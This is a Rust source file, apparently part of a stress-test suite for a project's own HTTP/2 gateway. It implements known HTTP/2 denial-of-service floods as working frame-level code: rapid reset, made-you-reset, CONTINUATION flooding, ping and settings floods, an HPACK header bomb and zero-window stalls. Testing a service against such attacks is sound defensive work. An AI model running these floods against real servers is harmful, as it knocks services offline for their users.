//! Floods of HTTP/2 over TLS, and clients that make no room.

use std::sync::Arc;

use self::frames::{
    CONTINUATION, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, data, frame, head, reset,
    window_update,
};
use crate::siege::{
    Outcome,
    door::{HOST, INSIDERS_KEY, Protocol},
    field::Field,
    pouring::{AT_ONCE, Carrier, Speech, pour},
    upstream::LARGE,
    wire::CALL,
};

#[allow(dead_code, reason = "the suite uses the rest")]
#[path = "../../suite/http2/frames.rs"]
mod frames;

/// `CANCEL`, of RFC 9113 7.
const CANCEL: u32 = 8;
/// As many as the gateway lets a connection have at once.
const STREAMS: u32 = 32;

/// The pseudo fields of a request with a key that is right.
fn fields(method: &str) -> Vec<u8> {
    let bearer = format!("Bearer {INSIDERS_KEY}");
    let fields = [
        (":method", method),
        (":scheme", "https"),
        (":authority", HOST),
        (":path", "/mcp"),
        ("authorization", &bearer),
        ("accept", "application/json, text/event-stream"),
        ("content-type", "application/json"),
    ];
    let fields = fields.map(|(name, value)| (name.as_bytes().to_vec(), value.as_bytes().to_vec()));
    frames::block(&fields)
}

/// The number that a client gives its n-th stream.
const fn stream(n: u32) -> u32 {
    2 * n + 1
}

/// What is said after the greeting: settings, what opens the talk, and what is said again.
fn speech(
    window: u32,
    opening: &[u8],
    again: impl Fn(u32) -> Vec<u8> + Send + Sync + 'static,
) -> Speech {
    let settings = frames::settings(&[(INITIAL_WINDOW_SIZE, window)]);
    Speech {
        carrier: Carrier::Tls(Protocol::Http2),
        opening: [frames::PREFACE, &settings, opening].concat(),
        again: Arc::new(again),
        times: u32::MAX / 4,
    }
}

const WINDOW: u32 = 65_535;

/// CVE-2023-44487.
pub(super) async fn rapid_reset(field: &Arc<Field>) -> Outcome<()> {
    let get = fields("GET");
    let again = move |n| [head(stream(n), true, &get), reset(stream(n), CANCEL)].concat();
    pour(field, speech(WINDOW, b"", again), AT_ONCE).await
}

/// CVE-2025-8671: each stream is made to be reset by the gateway, in one of three ways.
pub(super) async fn made_you_reset(field: &Arc<Field>) -> Outcome<()> {
    let get = fields("GET");
    let again = move |n| {
        let stream = stream(n);
        let provocation = match n % 3 {
            0 => window_update(stream, 0),
            1 => window_update(stream, (1 << 31) - 1),
            _ => data(stream, false, b"x"),
        };
        [head(stream, true, &get), provocation].concat()
    };
    pour(field, speech(WINDOW, b"", again), AT_ONCE).await
}

/// CVE-2024-27316.
pub(super) async fn continuation(field: &Arc<Field>) -> Outcome<()> {
    let begun = frame(HEADERS, END_STREAM, 1, &fields("GET"));
    let part = frames::block(&[(b"x".to_vec(), b"a".repeat(100))]);
    let again = move |_| frame(CONTINUATION, 0, 1, &part);
    pour(field, speech(WINDOW, &begun, again), AT_ONCE).await
}

/// RUSTSEC-2026-0258.
pub(super) async fn empty_data(field: &Arc<Field>) -> Outcome<()> {
    let begun = head(1, false, &fields("POST"));
    pour(field, speech(WINDOW, &begun, |_| data(1, false, b"")), AT_ONCE).await
}

/// CVE-2019-9512.
pub(super) async fn pings(field: &Arc<Field>) -> Outcome<()> {
    pour(field, speech(WINDOW, b"", |_| frame(PING, 0, 0, &[0; 8])), AT_ONCE).await
}

/// CVE-2019-9515.
pub(super) async fn settings(field: &Arc<Field>) -> Outcome<()> {
    pour(field, speech(WINDOW, b"", |_| frames::settings(&[(4, WINDOW)])), AT_ONCE).await
}

/// The "HTTP/2 bomb": a field of a byte each, thousands of them, and a window of nothing that holds
/// what they take.
pub(super) async fn bomb(field: &Arc<Field>) -> Outcome<()> {
    let mut block = fields("GET");
    let mut crumb = frames::block(&[(b"cookie".to_vec(), b"a=1".to_vec())]);
    if let Some(first) = crumb.first_mut() {
        // With incremental indexing (RFC 7541 6.2.1): it becomes the newest of the table, 62.
        *first = 0x40;
    }
    block.extend(crumb);
    // Some are within the limits, so that a request is held, and most are far beyond.
    let few = [block.as_slice(), &[0x80 | 62; 30]].concat();
    block.extend([0x80 | 62; 12_000]);
    let again = move |n: u32| head(stream(n), true, if n % 8 == 7 { &block } else { &few });
    let speech = Speech { times: STREAMS, ..speech(0, b"", again) };
    pour(field, speech, (field.force.sockets / 8).max(AT_ONCE)).await
}

/// Answers of 256 KiB that nobody makes room for.
pub(super) async fn zero_window(field: &Arc<Field>) -> Outcome<()> {
    let post = fields("POST");
    let call = CALL.replace("integrationList", LARGE);
    let again =
        move |n| [head(stream(n), false, &post), data(stream(n), true, call.as_bytes())].concat();
    let speech = Speech { times: STREAMS, ..speech(0, b"", again) };
    pour(field, speech, (field.force.sockets / 32).max(AT_ONCE)).await
}
